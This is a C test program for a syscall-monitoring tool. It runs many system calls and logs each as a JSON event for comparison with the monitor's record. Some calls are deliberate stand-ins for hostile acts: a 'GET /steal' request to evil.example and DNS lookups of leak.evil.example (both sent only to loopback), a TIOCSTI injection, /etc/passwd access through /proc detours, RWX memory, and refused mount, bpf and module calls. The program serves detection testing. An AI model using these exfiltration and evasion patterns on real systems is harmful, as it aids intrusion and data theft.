/* Does many things, failing ones included, and says of each what it did and got: one JSON line an
 * act, in the words of docs/formats/event.md. It says so from what it asked and was answered, not
 * from any record; test_truth.py compares the two.
 *
 *   truth FOLDER    (empty, absolute, without links in its path) */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char lines[1 << 18];
static size_t used;
static const char *w; /* the folder */

/* "kind op", the object (NULL: null), arguments as JSON members, and the answer. */
static long say(const char *call, const char *act, const char *object, const char *args, long r)
{
    char quoted[4200] = "null";

    if (object)
        snprintf(quoted, sizeof quoted, "\"%s\"", object);
    used += (size_t)snprintf(lines + used, sizeof lines - used,
                             "{\"call\":\"%s\",\"act\":\"%s\",\"object\":%s,\"args\":{%s},"
                             "\"result\":%ld}\n",
                             call, act, quoted, args, r < 0 ? -(long)errno : r);
    return r;
}

#define DO(name, act, object, args, ...)                                                           \
    say(#name, act, object, args, syscall(SYS_##name, __VA_ARGS__))

static char *f(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static char *f(const char *fmt, ...)
{
    static char ring[16][4200];
    static int next;
    char *at = ring[next++ % 16];
    va_list ap;

    va_start(ap, fmt);
    vsnprintf(at, sizeof ring[0], fmt, ap);
    va_end(ap);
    return at;
}

/* Steps that are not compared but have to work. */
static void must(int r)
{
    if (r < 0)
        exit(2);
}

static char *in(const char *name)
{
    return f("%s/%s", w, name);
}

static void directories(void)
{
    int d;

    DO(mkdir, "file mkdir", in("d"), "\"mode\":448", in("d"), 0700);
    DO(mkdir, "file mkdir", in("d"), "\"mode\":448", in("d"), 0700); /* EEXIST */
    DO(mkdir, "file mkdir", in("no/such/d"), "\"mode\":448", in("no/such/d"), 0700);
    d = (int)DO(openat, "file open", in("d"), "\"flags\":65536", AT_FDCWD, in("d"), O_DIRECTORY);
    DO(mkdirat, "file mkdir", in("d/e"), "\"mode\":493,\"given\":\"e\"", d, "e", 0755);
    DO(mkdirat, "file mkdir", in("d/via"), f("\"given\":\"/proc/self/fd/%d/via\"", d), AT_FDCWD,
       f("/proc/self/fd/%d/via", d), 0700);
    DO(chdir, "file chdir", in("d"), "", in("d"));
    DO(fchdir, "file chdir", in("d"), "", d);
    DO(getdents64, "file list", in("d"), "", d, f(" "), 4000);
    DO(mkdir, "file mkdir", in("d/rel"), "\"given\":\"./e/../rel\"", "./e/../rel", 0700);
    DO(rmdir, "file rmdir", in("d/rel"), "\"given\":\"rel\"", "rel");
    DO(unlinkat, "file unlink", in("d"), "\"flags\":512", AT_FDCWD, in("d"), AT_REMOVEDIR);
    DO(chdir, "file chdir", "/nowhere/at/all", "", "/nowhere/at/all");
    DO(statfs, "file statfs", w, "", w, f(" "));
    close(d);
}

static void opening(void)
{
    struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_NO_SYMLINKS};
    int a, b;

    a = (int)DO(openat, "file open", in("f"), "\"flags\":66,\"mode\":416", AT_FDCWD, in("f"),
                O_CREAT | O_RDWR, 0640);
    DO(openat, "file open", in("missing"), "\"flags\":0", AT_FDCWD, in("missing"), O_RDONLY);
    DO(open, "file open", in("f"), "\"flags\":193", in("f"), O_CREAT | O_EXCL | O_WRONLY, 0600);
    b = (int)DO(creat, "file open", in("g"), "\"flags\":577,\"mode\":384", in("g"), 0600);
    close(b);
    DO(symlink, "file symlink", in("link"), "\"target\":\"f\"", "f", in("link"));
    DO(symlinkat, "file symlink", in("loop"), "\"target\":\"loop\",\"given\":\"loop\"", "loop",
       (int)open(w, O_PATH | O_CLOEXEC), "loop");
    b = (int)DO(open, "file open", in("f"), f("\"given\":\"%s\"", in("link")), in("link"),
                O_RDONLY);
    close(b);
    DO(open, "file open", in("link"), "\"flags\":131072", in("link"), O_NOFOLLOW); /* ELOOP */
    b = (int)DO(openat2, "file open", in("f"), "\"flags\":0,\"resolve\":4", AT_FDCWD, in("f"), &how,
                sizeof how);
    close(b);
    DO(openat2, "file open", in("f"), f("\"given\":\"%s\"", in("link")), AT_FDCWD, in("link"), &how,
       sizeof how);
    DO(openat, "file open", f("/proc/%d/nothing", getpid()), "\"given\":\"/proc/self/nothing\"",
       AT_FDCWD, "/proc/self/nothing", O_RDONLY);
    DO(openat, "file open", "", "\"flags\":0", AT_FDCWD, (char *)8, O_RDONLY); /* EFAULT */
    close(a);
}

static void moving_bytes(void)
{
    char buffer[64] = "0123456789";
    struct iovec v[2] = {{buffer, 3}, {buffer, 4}};
    int a = open(in("f"), O_RDWR | O_CLOEXEC), b = open(in("g"), O_RDWR | O_CLOEXEC), bad;

    DO(write, "file write", in("f"), "", a, buffer, 10);
    syscall(SYS_pwrite64, a, buffer, 5, 10);
    syscall(SYS_writev, a, v, 2);
    DO(pread64, "file read", in("f"), "", a, buffer, 64, 0);
    syscall(SYS_read, a, buffer, 64);
    DO(copy_file_range, "file copy", in("g"), f("\"from\":\"%s\",\"size\":4", in("f")), a,
       &(off_t){0}, b, NULL, 4, 0);
    DO(sendfile, "file copy", in("g"), f("\"from\":\"%s\",\"size\":3", in("f")), b, a, &(off_t){0},
       3);
    DO(ftruncate, "file truncate", in("g"), "\"size\":100", b, 100);
    DO(truncate, "file truncate", in("g"), "\"size\":7", in("g"), 7);
    DO(truncate, "file truncate", in("none"), "\"size\":7", in("none"), 7);
    DO(fallocate, "file allocate", in("g"), "\"mode\":0,\"offset\":0,\"size\":64", b, 0, 0, 64);
    DO(flock, "file lock", in("g"), "\"command\":2", b, LOCK_EX);
    DO(fcntl, "file lock", in("g"), "\"command\":6", b, F_SETLK,
       &(struct flock){.l_type = F_WRLCK, .l_len = 1});
    DO(fcntl, "file control", in("g"), "\"command\":1024,\"value\":1", b, F_SETLEASE, F_WRLCK);
    DO(ioctl, "file ioctl", in("g"), "\"request\":2148034049", b, 0x80086601, buffer);
    bad = open(in("f"), O_WRONLY | O_CLOEXEC);
    DO(read, "file read", in("f"), "", bad, buffer, 1); /* EBADF: not for reading */
    close(bad);
    say("close", "file totals", in("f"), "\"read\":24,\"written\":22", (close(a), 0));
    close(b);
}

static void asking(void)
{
    struct stat s;

    DO(stat, "file stat", in("f"), f("\"given\":\"%s\"", in("link")), in("link"), &s);
    DO(lstat, "file stat", in("link"), "", in("link"), &s);
    DO(newfstatat, "file stat", in("gone"), "\"flags\":0", AT_FDCWD, in("gone"), &s, 0);
    DO(newfstatat, "file stat", in("link"), "\"flags\":256", AT_FDCWD, in("link"), &s,
       AT_SYMLINK_NOFOLLOW);
    DO(statx, "file stat", "/etc/passwd", "\"given\":\"/etc/../etc/passwd\"", AT_FDCWD,
       "/etc/../etc/passwd", 0, 0, f("%300s", ""));
    DO(stat, "file stat", in("loop"), "", in("loop"), &s); /* ELOOP */
    DO(access, "file access", in("f"), "\"mode\":4", in("f"), R_OK);
    DO(faccessat, "file access", in("x"), "\"mode\":0", AT_FDCWD, in("x"), F_OK);
    DO(faccessat2, "file access", in("link"), "\"mode\":0,\"flags\":256", AT_FDCWD, in("link"),
       F_OK, AT_SYMLINK_NOFOLLOW);
    DO(readlink, "file readlink", in("link"), "", in("link"), f(" "), 100);
    DO(readlink, "file readlink", in("f"), "", in("f"), f(" "), 100); /* EINVAL */
    DO(readlinkat, "file readlink", in("link"), "\"given\":\"../link\"", AT_FDCWD, "../link",
       f(" "), 100);
}

/* So deep down that the kernel has no name for the place; the way up has one again. */
static void deep(void)
{
    char part[251], *up = f("d"), *p;
    struct stat s;
    int fd;

    memset(part, 'p', 250);
    part[250] = '\0';
    must(chdir(w));
    for (int i = 0; i < 20; i++) {
        must(mkdir(part, 0700));
        must(chdir(part));
    }
    fd = (int)DO(open, "file open", "(unnamed)", "\"given\":\"x\"", "x", O_CREAT | O_WRONLY, 0600);
    close(fd);
    DO(stat, "file stat", "(unnamed)/y", "\"given\":\"y\"", "y", &s);
    for (p = up = f("%*s", 70, ""); p < up + 60; p += 3)
        memcpy(p, "../", 3);
    memcpy(p, "f", 2);
    DO(stat, "file stat", in("f"), f("\"given\":\"%s\"", up), up, &s);
    must(chdir(w));
}

/* Ways to call one thing by another name. */
static void detours(void)
{
    struct stat s;
    int d, inside;

    DO(stat, "file stat", "/etc/passwd", "\"given\":\"/proc/self/root/etc/passwd\"",
       "/proc/self/root/etc/passwd", &s);
    DO(stat, "file stat", "/etc/passwd", "\"given\":\"/proc/thread-self/root/etc/passwd\"",
       "/proc/thread-self/root/etc/passwd", &s);
    must(symlink(in("nothing"), in("dangling")));
    DO(stat, "file stat", in("nothing"), f("\"given\":\"%s\"", in("dangling")), in("dangling"), &s);
    DO(lstat, "file stat", in("dangling"), "", in("dangling"), &s);
    must(symlink("/proc/self/cwd", in("here")));
    must(chdir(w));
    DO(stat, "file stat", in("f"), f("\"given\":\"%s\"", in("here/f")), in("here/f"), &s);
    inside = (int)DO(open, "file open", in("f"), f("\"given\":\"%s\"", in("here/here/f")),
                     in("here/here/f"), O_RDONLY);
    DO(stat, "file stat", in("f"), f("\"given\":\"/proc/self/fd/%d\"", inside),
       f("/proc/self/fd/%d", inside), &s);
    DO(stat, "file stat", in("f"), f("\"given\":\"/dev/fd/%d\"", inside), f("/dev/fd/%d", inside),
       &s);
    close(inside);
    DO(stat, "file stat", in("f"), f("\"given\":\"../../../../../../../../../..%s\"", in("f")),
       f("../../../../../../../../../..%s", in("f")), &s);
    d = open(w, O_PATH | O_CLOEXEC);
    DO(unlinkat, "file unlink", in("here"), "\"given\":\"here\"", d, "here", 0);
    close(d);
    deep();
    mkdir(in("gone"), 0700);
    must(chdir(in("gone")));
    rmdir(in("gone"));
    DO(mkdir, "file mkdir", f("%s (deleted)/x", in("gone")), "\"given\":\"x\"", "x", 0700);
    must(chdir(in("d")));
}

static void rights_and_names(void)
{
    int a = open(in("f"), O_RDWR | O_CLOEXEC);
    int uid = (int)getuid(), gid = (int)getgid();
    /* Owner, group and others, as the kernel wants them. */
    static const uint8_t acl[] = {2, 0, 0,   0,   1,   0,   6,  0, 255, 255, 255, 255, 4,   0,
                                  4, 0, 255, 255, 255, 255, 32, 0, 4,   0,   255, 255, 255, 255};

    DO(chmod, "file chmod", in("f"), "\"mode\":384", in("f"), 0600);
    DO(fchmod, "file chmod", in("f"), "\"mode\":420", a, 0644);
    DO(fchmodat, "file chmod", in("q"), "\"mode\":420", AT_FDCWD, in("q"), 0644);
    DO(chown, "file chown", in("f"), f("\"uid\":%d,\"gid\":%d", uid, gid), in("f"), uid, gid);
    DO(lchown, "file chown", in("link"), "\"uid\":-1", in("link"), -1, gid);
    DO(fchownat, "file chown", in("link"), "\"flags\":256", AT_FDCWD, in("link"), uid, -1,
       AT_SYMLINK_NOFOLLOW);
    DO(utimensat, "file times", in("f"), "\"flags\":0", AT_FDCWD, in("f"), NULL, 0);
    DO(utimensat, "file times", in("f"), "\"flags\":0", a, NULL, NULL, 0);
    DO(setxattr, "file xattr-set", in("f"), "\"name\":\"user.tag\",\"size\":3", in("f"), "user.tag",
       "abc", 3, 0);
    DO(fgetxattr, "file xattr-get", in("f"), "\"name\":\"system.posix_acl_access\"", a,
       "system.posix_acl_access", f(" "), 100);
    DO(setxattr, "file xattr-set", in("f"), "\"name\":\"system.posix_acl_access\",\"size\":28",
       in("f"), "system.posix_acl_access", acl, sizeof acl, 0);
    DO(listxattr, "file xattr-list", in("f"), "", in("f"), f(" "), 100);
    DO(removexattr, "file xattr-remove", in("f"), "\"name\":\"user.tag\"", in("f"), "user.tag");
    DO(link, "file link", in("f"), f("\"to\":\"%s\"", in("hard")), in("f"), in("hard"));
    DO(linkat, "file link", in("f"), f("\"to\":\"%s\",\"flags\":1024", in("hard2")), AT_FDCWD,
       in("link"), AT_FDCWD, in("hard2"), AT_SYMLINK_FOLLOW);
    DO(rename, "file rename", in("hard"), f("\"to\":\"%s\"", in("hard3")), in("hard"), in("hard3"));
    DO(renameat2, "file rename", in("hard3"), f("\"to\":\"%s\",\"flags\":1", in("f")), AT_FDCWD,
       in("hard3"), AT_FDCWD, in("f"), 1); /* EEXIST */
    DO(unlink, "file unlink", in("hard3"), "", in("hard3"));
    DO(unlink, "file unlink", in("hard3"), "", in("hard3")); /* ENOENT */
    DO(unlink, "file unlink", in("hard2"), f("\"given\":\"/proc/self/cwd/../hard2\""),
       "/proc/self/cwd/../hard2");
    DO(mknod, "file mknod", in("fifo"), "\"mode\":4480,\"device\":0", in("fifo"), S_IFIFO | 0600,
       0);
    DO(inotify_add_watch, "file watch", w, "\"mask\":2", inotify_init1(IN_CLOEXEC), w, IN_MODIFY);
    close(a);
}

static void memory(void)
{
    int a = open(in("f"), O_RDWR | O_CLOEXEC), m;
    void *p;

    p = (void *)syscall(SYS_mmap, NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, a, 0);
    say("mmap", "file map", in("f"), "\"prot\":3,\"flags\":1,\"size\":4096", p ? 0 : -1);
    p = (void *)syscall(SYS_mmap, NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC,
                        MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    say("mmap", "syscall writable-code", NULL, "\"prot\":7,\"size\":8192,\"call\":\"mmap\"",
        p ? 0 : -1);
    say("mprotect", "syscall executable-memory", NULL,
        "\"prot\":5,\"size\":4096,\"call\":\"mprotect\"",
        syscall(SYS_mprotect, p, 4096, PROT_READ | PROT_EXEC));
    m = (int)DO(memfd_create, "file memfd", NULL, "\"name\":\"hidden\",\"flags\":1", "hidden", 1);
    DO(write, "file write", "/memfd:hidden (deleted)", "", m, "x", 1);
    close(m);
    close(a);
}

static int listener(struct sockaddr_in *at)
{
    socklen_t len = sizeof *at;
    int s = (int)DO(socket, "network socket", "inet/stream",
                    "\"family\":2,\"type\":1,\"protocol\":0", AF_INET, SOCK_STREAM, 0);

    *at = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    DO(setsockopt, "network option", "socket:2/1", "\"level\":1,\"option\":2", s, SOL_SOCKET,
       SO_REUSEADDR, &(int){1}, sizeof(int));
    DO(bind, "network bind", "127.0.0.1:0", "\"socket\":\"stream\"", s, at, sizeof *at);
    DO(listen, "network listen", "127.0.0.1:0", "\"backlog\":3", s, 3);
    getsockname(s, (struct sockaddr *)at, &len);
    return s;
}

static void greet(const struct sockaddr_in *at, const char *peer)
{
    static const char hello[] = "\x16\3\1\0\x45\1\0\0\x41\3\3"
                                "01234567890123456789012345678901"
                                "\0\0\2\x13\1\1\0\0\x16"
                                "\0\0\0\x12\0\x10\0\0\x0d"
                                "quiet.example";
    struct iovec v[2] = {{(void *)(uintptr_t)hello, 30},
                         {(void *)(uintptr_t)(hello + 30), sizeof hello - 31}};
    int c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    long r;

    must(connect(c, (const struct sockaddr *)at, sizeof *at));
    r = syscall(SYS_writev, c, v, 2);
    say("writev", "network tls-hello", "quiet.example", f("\"peer\":\"%s\"", peer), r);
    close(c);
}

static void streams(void)
{
    static const char request[] = "GET /steal HTTP/1.1\r\nHost: evil.example\r\n\r\n";
    struct sockaddr_in at, none = {.sin_family = AF_INET,
                                   .sin_port = htons(1),
                                   .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = htons(53)};
    int s = listener(&at), c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), a;
    char peer[64], buffer[100];
    socklen_t len = sizeof at;
    struct sockaddr_in mine;

    snprintf(peer, sizeof peer, "127.0.0.1:%d", ntohs(at.sin_port));
    DO(connect, "network connect", peer, "\"socket\":\"stream\"", c, &at, sizeof at);
    getsockname(c, (struct sockaddr *)&mine, &len);
    a = (int)DO(accept4, "network accept", f("127.0.0.1:%d", ntohs(mine.sin_port)),
                "\"at\":\"127.0.0.1:0\"", s, NULL, NULL, SOCK_CLOEXEC);
    DO(sendto, "network send", peer, "", c, request, sizeof request - 1, 0, NULL, 0);
    say("sendto", "network http-request", "evil.example",
        f("\"method\":\"GET\",\"target\":\"/steal\",\"peer\":\"%s\"", peer), sizeof request - 1);
    DO(recvfrom, "network receive", f("127.0.0.1:%d", ntohs(mine.sin_port)), "", a, buffer, 100, 0,
       NULL, NULL);
    DO(shutdown, "network shutdown", peer, "\"how\":1", c, SHUT_WR);
    close(a);
    greet(&at, peer);
    say("close", "network totals", peer, f("\"read\":0,\"written\":%zu", sizeof request - 1),
        (close(c), 0));
    c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    DO(connect, "network connect", "127.0.0.1:1", "", c, &none, sizeof none); /* ECONNREFUSED */
    close(c);
    c = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (c >= 0) {
        inet_pton(AF_INET6, "::1", &six.sin6_addr);
        DO(connect, "network connect", "[::1]:53", "\"socket\":\"datagram\"", c, &six, sizeof six);
        close(c);
    }
    close(s);
}

static void datagrams(void)
{
    static const char query[] = "\x12\x34\1\0\0\1\0\0\0\0\0\0\4leak\4evil\7example\0\0\x10\0\1";
    struct sockaddr_in dns = {
        .sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    struct iovec v = {(void *)(uintptr_t)query, sizeof query - 1};
    struct mmsghdr two[2] = {
        {.msg_hdr = {.msg_name = &dns, .msg_namelen = sizeof dns, .msg_iov = &v, .msg_iovlen = 1}},
        {.msg_hdr = {.msg_name = &dns, .msg_namelen = sizeof dns, .msg_iov = &v, .msg_iovlen = 1}}};
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), u = socket(AF_UNIX, SOCK_STREAM, 0);
    const char *asked = "\"type\":16,\"class\":1,\"server\":\"127.0.0.1:53\"";
    long r;

    r = DO(sendto, "network send", "127.0.0.1:53", "", s, query, sizeof query - 1, 0, &dns,
           sizeof dns);
    say("sendto", "network dns-query", "leak.evil.example", asked, r);
    close(s);
    s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    r = syscall(SYS_sendmmsg, s, two, 2, 0);
    say("sendmmsg", "network dns-query", "leak.evil.example", asked, r);
    say("sendmmsg", "network dns-query", "leak.evil.example", asked, r);
    close(s);
    s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    DO(connect, "network connect", "127.0.0.1:53", "\"socket\":\"datagram\"", s, &dns, sizeof dns);
    r = syscall(SYS_write, s, query, sizeof query - 1);
    say("write", "network dns-query", "leak.evil.example", asked, r);
    close(s);
    snprintf(un.sun_path, sizeof un.sun_path, "%s", in("no.sock"));
    DO(connect, "network connect", f("unix:%s", in("no.sock")), "", u, &un, sizeof un);
    close(u);
    DO(socket, "network socket", "netlink/raw", "\"family\":16,\"type\":3", AF_NETLINK, SOCK_RAW,
       0);
    DO(socket, "network socket", "inet/raw", "\"protocol\":1", AF_INET, SOCK_RAW, 1);
    DO(socket, "network socket", "packet/raw", "\"family\":17", AF_PACKET, SOCK_RAW, 0);
    DO(socket, "network socket", "vsock/stream", "\"family\":40", AF_VSOCK, SOCK_STREAM, 0);
    DO(socket, "network socket", "other/packets", "\"family\":38", AF_ALG, SOCK_SEQPACKET, 0);
    DO(ioctl, "file ioctl", "/dev/null", "\"request\":21522", open("/dev/null", O_RDWR | O_CLOEXEC),
       TIOCSTI, "x");
}

static void pass_descriptor(void)
{
    union {
        char room[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } c = {0};
    char byte = 'x';
    struct iovec v = {&byte, 1};
    struct msghdr m = {
        .msg_iov = &v, .msg_iovlen = 1, .msg_control = &c, .msg_controllen = sizeof c};
    int pair[2], file = open(in("f"), O_RDONLY | O_CLOEXEC), got = -1;

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        exit(1);
    CMSG_FIRSTHDR(&m)->cmsg_level = SOL_SOCKET;
    CMSG_FIRSTHDR(&m)->cmsg_type = SCM_RIGHTS;
    CMSG_FIRSTHDR(&m)->cmsg_len = CMSG_LEN(sizeof file);
    memcpy(CMSG_DATA(CMSG_FIRSTHDR(&m)), &file, sizeof file);
    syscall(SYS_sendmsg, pair[0], &m, 0);
    close(file);
    syscall(SYS_recvmsg, pair[1], &m, 0);
    memcpy(&got, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof got);
    say("recvmsg", "network descriptor", in("f"), "", got);
    DO(read, "file read", in("f"), "", got, &byte, 1);
    close(got);
}

/* ---- descriptor tables that are shared, or unexpectedly not ---- */

static int thread_read(void *arg)
{
    struct timespec nap = {0, 50000000};
    int n = (int)syscall(SYS_openat, AT_FDCWD, arg, O_RDONLY);
    char c;

    syscall(SYS_read, n, &c, 1);
    syscall(SYS_nanosleep, &nap, NULL);
    syscall(SYS_read, n, &c, 1);
    syscall(SYS_exit, 0);
    return 0;
}

static void tables(void)
{
    static char stack[65536] __attribute__((aligned(16)));
    struct timespec nap = {0, 20000000};
    int a = open(in("f"), O_RDONLY | O_CLOEXEC), b;
    char c, *g = in("d/../g");
    long pid;

    DO(read, "file read", in("f"), "", a, &c, 1);
    pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) { /* changes what our descriptor means */
        b = open(g, O_RDONLY | O_CLOEXEC);
        dup2(b, a);
        _exit(0);
    }
    say("clone", "process fork", NULL, "\"flags\":1041", pid);
    waitpid((pid_t)pid, NULL, 0);
    DO(read, "file read", in("g"), "", a, &c, 1);
    close(a);
    /* A thread with a table of its own: one number, two files. */
    pid = clone(thread_read, stack + sizeof stack,
                CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | CLONE_FS, g);
    say("clone", "process thread", NULL, "\"child\":1", pid);
    nanosleep(&nap, NULL);
    say("read", "file read", in("g"), "", 1);
    a = open(in("f"), O_RDONLY | O_CLOEXEC);
    DO(read, "file read", in("f"), "", a, &c, 1);
    nap.tv_nsec = 200000000;
    nanosleep(&nap, NULL);
    say("read", "file read", in("g"), "", 1);
    DO(read, "file read", in("f"), "", a, &c, 1);
    close(a);
}

static void other_births(void)
{
    struct {
        uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } how = {.exit_signal = SIGCHLD};
    pid_t pid = vfork();

    if (pid == 0)
        _exit(0);
    say("vfork", "process fork", NULL, "\"child\":3", pid);
    waitpid(pid, NULL, 0);
    pid = (pid_t)syscall(SYS_clone3, &how, sizeof how);
    if (pid == 0)
        _exit(0);
    say("clone3", "process fork", NULL, "\"child\":4", pid);
    waitpid(pid, NULL, 0);
}

static void processes(void)
{
    static const char *const argv[] = {"sh", "-c", "exit 7", NULL};
    static const char *const no[] = {"no", "way", NULL};
    pid_t pid;
    int status;

    DO(execve, "process exec", in("no"), "\"argv\":\"no\\\\x00way\"", in("no"), no, NULL);
    DO(execve, "process exec", in("f"), "\"argv\":\"no\\\\x00way\"", in("f"), no,
       NULL); /* EACCES */
    pid = (pid_t)syscall(SYS_fork);
    if (pid == 0) {
        syscall(SYS_execveat, AT_FDCWD, "/bin/sh", argv, NULL, 0);
        _exit(1);
    }
    say("fork", "process fork", NULL, "\"flags\":17,\"child\":2", pid);
    waitpid(pid, &status, 0);
    other_births();
    DO(kill, "process kill", NULL, f("\"signal\":0,\"target\":%d,\"process\":0", getpid()),
       getpid(), 0);
    DO(kill, "process kill", NULL, f("\"signal\":9,\"target\":%d", pid), pid, 9); /* ESRCH */
    DO(tgkill, "process kill", NULL, "\"signal\":99", getpid(), getpid(), 99);    /* EINVAL */
    DO(setpgid, "process group", NULL, "\"target\":0,\"group\":0", 0, 0);
    DO(setsid, "process session", NULL, "", 0);
    DO(setpriority, "process priority", NULL, "\"which\":0,\"target\":0,\"value\":5", 0, 0, 5);
    DO(prlimit64, "process limit", NULL, "\"target\":0,\"resource\":7", 0, RLIMIT_NOFILE,
       &(struct rlimit){128, 128}, NULL);
    DO(prctl, "process name", "fishy", "", PR_SET_NAME, "fishy", 0, 0, 0);
    DO(prctl, "process control", NULL, "\"option\":4,\"value\":0", PR_SET_DUMPABLE, 0, 0, 0, 0);
    DO(prctl, "process control", NULL, "\"option\":4,\"value\":1", PR_SET_DUMPABLE, 1, 0, 0, 0);
    DO(setuid, "process identity", NULL, f("\"uid\":%d", (int)getuid()), getuid());
    DO(pidfd_open, "process pidfd", NULL, "\"target\":-1", -1, 0); /* EINVAL */
    DO(pidfd_send_signal, "process kill", NULL, "\"signal\":0,\"process\":0",
       syscall(SYS_pidfd_open, getpid(), 0), 0, NULL, 0);
}

static void time_and_chance(void)
{
    struct timespec nap = {0, 3000000}, bad = {-1, 0}, now;
    char buffer[16];
    int a;

    DO(clock_gettime, "clock now", NULL, "\"clock\":0,\"call\":\"clock_gettime\"", CLOCK_REALTIME,
       &now);
    DO(nanosleep, "clock sleep", NULL, "\"ns\":3000000", &nap, NULL);
    DO(nanosleep, "clock sleep", NULL, "\"ns\":0", &bad, NULL); /* EINVAL */
    DO(clock_nanosleep, "clock sleep", NULL, "\"clock\":1,\"ns\":3000000", CLOCK_MONOTONIC, 0, &nap,
       NULL);
    DO(poll, "clock wait", NULL, "\"ns\":5000000,\"call\":\"poll\"", NULL, 0, 5);
    DO(alarm, "clock timer", NULL, "\"ns\":100000000000", 100);
    alarm(0);
    DO(getrandom, "entropy getrandom", NULL, "\"size\":16,\"flags\":1", buffer, 16, 1);
    a = open("/dev/urandom", O_RDONLY | O_CLOEXEC);
    DO(read, "entropy read", "/dev/urandom", "", a, buffer, 8);
    close(a);
}

/* Doors of the 32-bit kernels into this one. */
static void refused_calls_of_others(void)
{
    int r;

    __asm__ volatile("int $0x80" : "=a"(r) : "a"(20) : "memory"); /* getpid of i386 */
    errno = -r;
    say("int-80", "syscall refused", "other-architecture", "\"number\":20", r < 0 ? -1 : r);
    say("x32", "syscall refused", "unknown", "\"number\":1073741863", syscall(0x40000000 | 39));
}

static void refusals(void)
{
    DO(mount, "syscall refused", "mount",
       "\"source\":\"none\",\"to\":\"/mnt\",\"type\":\"tmpfs\",\"flags\":2", "none", "/mnt",
       "tmpfs", 2, NULL);
    DO(io_uring_setup, "syscall refused", "io_uring_setup", "", 8, NULL);
    DO(bpf, "syscall refused", "bpf", "\"command\":5", 5, NULL, 0);
    DO(init_module, "syscall refused", "init_module", "", "", 0, "");
    DO(delete_module, "syscall refused", "delete_module", "", "fish", 0);
    DO(chroot, "syscall refused", "chroot", f("\"path\":\"%s\"", w), w);
    DO(unshare, "process unshare", NULL, "\"flags\":268435456", CLONE_NEWUSER);
    DO(ptrace, "process ptrace", NULL, "\"request\":0", 0, 0, 0, 0);
    DO(personality, "process personality", NULL, "\"persona\":4194304", 0x400000);
    say("510", "syscall refused", "unknown", "\"number\":510", syscall(510, 1, 2, 3));
    refused_calls_of_others();
    DO(clone, "process fork", NULL, "\"flags\":536870929", CLONE_NEWPID | SIGCHLD, 0, 0, 0, 0);
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return 64;
    w = argv[1];
    directories();
    opening();
    moving_bytes();
    asking();
    detours();
    rights_and_names();
    memory();
    streams();
    datagrams();
    pass_descriptor();
    tables();
    processes();
    time_and_chance();
    refusals();
    return fwrite(lines, 1, used, stdout) == used ? 0 : 1;
}
